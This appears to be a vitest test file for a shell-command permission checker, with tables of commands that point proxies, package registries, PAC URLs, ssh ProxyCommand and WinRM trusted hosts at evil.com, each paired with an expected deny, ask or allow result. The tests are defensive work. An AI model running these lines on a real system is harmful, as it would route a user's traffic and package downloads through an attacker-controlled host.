// Settings that name a host later traffic goes through (docs/engine.md, "Stored proxy and trust
// settings"): a proxy, a PAC script's URL, a host trusted for remoting or without TLS checks is a
// Domain part, as if the line contacted it. A literal host a deny rule names denies; one from an
// expansion, or settings the analysis does not read, ask. Ordinary lines stay allowed.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_WINDOWS } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)'], allow: ['Shell(*)'] };

// (An exported URL naming a denied host denies since session 43's exported-hosts.ts reading; a bare host or host:port asks.)
describe('proxy variables: never allowed (they change where later commands connect)', () => {
  lineTable(DENY_EVIL, [
    ['export HTTPS_PROXY=http://evil.com:8080; curl https://ok.com', 'deny'],
    ['export HTTP_PROXY=http://evil.com:8080', 'deny'],
    ['export ALL_PROXY=evil.com:8080', 'ask'],
    ['export https_proxy=evil.com:8080', 'ask'],
    ['export all_proxy=socks5://evil.com:1080', 'deny'],
    ['export FTP_PROXY=evil.com:21', 'ask'],
    ['export RSYNC_PROXY=evil.com:873', 'ask'],
    ["export GIT_PROXY_COMMAND='nc evil.com 22'", 'deny'],
    ['export npm_config_proxy=http://evil.com', 'deny'],
    ['export npm_config_https_proxy=http://evil.com', 'deny'],
    ['export PIP_PROXY=evil.com:80', 'ask'],
    ['export PIP_INDEX_URL=https://evil.com/simple', 'deny'],
    ['export NO_PROXY=evil.com', 'ask'],
    ['HTTPS_PROXY=evil.com:8080 pip install x', 'ask'],
    ['env HTTPS_PROXY=evil.com:8080 npm ci', 'ask'],
    ['export HTTPS_PROXY=$X', 'ask'],
    ['export NODE_ENV=production', 'allow'],
  ]);
});

describe('package managers\' stored proxies and trusted hosts, with or without a scheme', () => {
  lineTable(DENY_EVIL, [
    ['pip config set global.proxy evil.com:80', 'deny'],
    ['pip3 config --user set install.proxy http://evil.com:80', 'deny'],
    ['python -m pip config set global.proxy evil.com:80', 'deny'],
    ['pip config set global.trusted-host evil.com', 'deny'],
    ['pip config set global.index-url https://evil.com/simple', 'deny'],
    ['pip config set global.proxy $P', 'ask'],
    ['pip config set global.index-url $U', 'ask'],
    ['pip install --proxy evil.com:80 x', 'deny'],
    ['npm config set proxy http://evil.com', 'deny'],
    ['npm config set proxy evil.com:8080', 'deny'],
    ['npm config set https-proxy=evil.com:8080', 'deny'],
    ['npm config set registry https://evil.com/', 'deny'],
    ['yarn config set httpProxy http://evil.com', 'deny'],
    ['yarn config set httpsProxy evil.com:80', 'deny'],
    ['pnpm config set proxy evil.com', 'deny'],
    ['conda config --set proxy_servers.https http://evil.com', 'deny'],
    ['conda config --set proxy_servers.https evil.com:80', 'deny'],
    ['cargo --config http.proxy=evil.com:80 build', 'deny'],
    ['go env -w GOPROXY=https://evil.com', 'deny'],
    ['docker build --build-arg HTTPS_PROXY=http://evil.com .', 'deny'],
    ['pip config set global.timeout 10', 'allow'],
    ['npm config set fund false', 'allow'],
    ['npm config set proxy http://proxy.corp:3128', 'allow'],
    ['pip install x', 'allow'],
    ['npm ci', 'allow'],
    ['npm test', 'allow'],
  ]);
});

describe('git, curl, wget and ssh proxies', () => {
  lineTable(DENY_EVIL, [
    ['git config --global http.proxy evil.com:8080', 'deny'],
    ['git config http.https://x.com.proxy evil.com:8080', 'deny'],
    ['git -c http.proxy=evil.com:8080 clone https://ok.com/r', 'deny'],
    ['curl -x evil.com:80 https://ok.com', 'deny'],
    ['curl --proxy evil.com:80 https://ok.com', 'deny'],
    ['wget -e use_proxy=yes -e https_proxy=evil.com:80 https://ok.com', 'deny'],
    ["ssh -o ProxyCommand='nc evil.com 22' h", 'deny'],
    ['ssh -J evil.com h', 'deny'],
    ['git config user.name x', 'allow'],
    ['git status', 'allow'],
  ]);
});

describe('desktop proxy settings: GNOME (gsettings, dconf), macOS (networksetup, scutil)', () => {
  lineTable(DENY_EVIL, [
    ['gsettings set org.gnome.system.proxy.https host evil.com', 'deny'],
    ["gsettings set org.gnome.system.proxy.http host 'evil.com'", 'deny'],
    ['gsettings set org.gnome.system.proxy.http host $H', 'ask'],
    ['gsettings set org.gnome.system.proxy autoconfig-url http://evil.com/p.pac', 'deny'],
    ["dconf write /system/proxy/http/host \"'evil.com'\"", 'deny'],
    ["dconf load /system/proxy/ <<'EOF'\n[http]\nhost='evil.com'\nEOF", 'deny'],
    ['dconf load / < f', 'ask'],
    ['networksetup -setwebproxy Wi-Fi evil.com 80', 'deny'],
    ['networksetup -setautoproxyurl Wi-Fi http://evil.com/p.pac', 'deny'],
    ["printf 'd.add HTTPProxy evil.com\\n' | scutil", 'ask'],
    ["scutil <<'EOF'\nd.init\nd.add HTTPSProxy evil.com\nEOF", 'deny'],
    ['gsettings set org.gnome.system.proxy mode manual', 'allow'],
    ['gsettings set org.gnome.desktop.interface gtk-theme x', 'allow'],
    ["scutil <<'EOF'\nd.init\nd.add HTTPSProxy ok.com\nEOF", 'allow'],
    ['scutil --proxy', 'allow'],
    ['scutil --get HostName', 'allow'],
  ]);
});

describe('Windows: Internet Settings\' proxy and PAC URL, WinRM\'s trusted hosts, WinHTTP', () => {
  const INTERNET_SETTINGS = "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings'";
  const REG_KEY = '"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings"';
  lineTable(DENY_EVIL, [
    [`Set-ItemProperty ${INTERNET_SETTINGS} ProxyServer evil.com:80`, 'deny'],
    [`Set-ItemProperty -Path ${INTERNET_SETTINGS} -Name ProxyServer -Value evil.com:80`, 'deny'],
    [`New-ItemProperty ${INTERNET_SETTINGS} -Name ProxyServer -Value 'http=evil.com:80;https=evil.com:443'`, 'deny'],
    [`Set-ItemProperty ${INTERNET_SETTINGS} AutoConfigURL http://evil.com/p.pac`, 'deny'],
    [`Set-ItemProperty ${INTERNET_SETTINGS} ProxyServer $p`, 'ask'],
    [`reg add ${REG_KEY} /v ProxyServer /d evil.com:80 /f`, 'deny'],
    [`reg add ${REG_KEY} /v AutoConfigURL /d http://evil.com/p.pac /f`, 'deny'],
    ['Set-Item WSMan:\\localhost\\Client\\TrustedHosts evil.com', 'deny'],
    ['Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value "a.com,evil.com" -Force', 'deny'],
    ['Set-Item WSMan:\\localhost\\Client\\TrustedHosts *', 'ask'],
    ['winrm set winrm/config/client @{TrustedHosts="evil.com"}', 'ask'],
    // (The URL in the expression is a host of the line, url-words.ts.)
    ["[Net.WebRequest]::DefaultWebProxy = New-Object Net.WebProxy('http://evil.com')", 'deny'],
    ["$env:HTTPS_PROXY='http://evil.com'", 'ask'],
    ['netsh winhttp set proxy evil.com:80', 'deny'],
    ['netsh winhttp import proxy source=ie', 'ask'],
    [`reg add ${REG_KEY} /v ProxyServer /d proxy.corp:80 /f`, 'allow'],
    ['Set-Item WSMan:\\localhost\\Client\\TrustedHosts ok.com', 'allow'],
    ['netsh winhttp show proxy', 'allow'],
    ['Set-ItemProperty HKCU:\\Software\\X Name 1', 'allow'],
    ['Get-Content a.txt', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    [`reg add ${REG_KEY} /v ProxyServer /d evil.com:80 /f`, 'deny'],
    ["winrm set winrm/config/client '@{TrustedHosts=\"evil.com\"}'", 'deny'],
    ['netsh winhttp import proxy source=ie', 'ask'],
    ['git status', 'allow'],
  ], 'shell', REPO_WINDOWS);
});
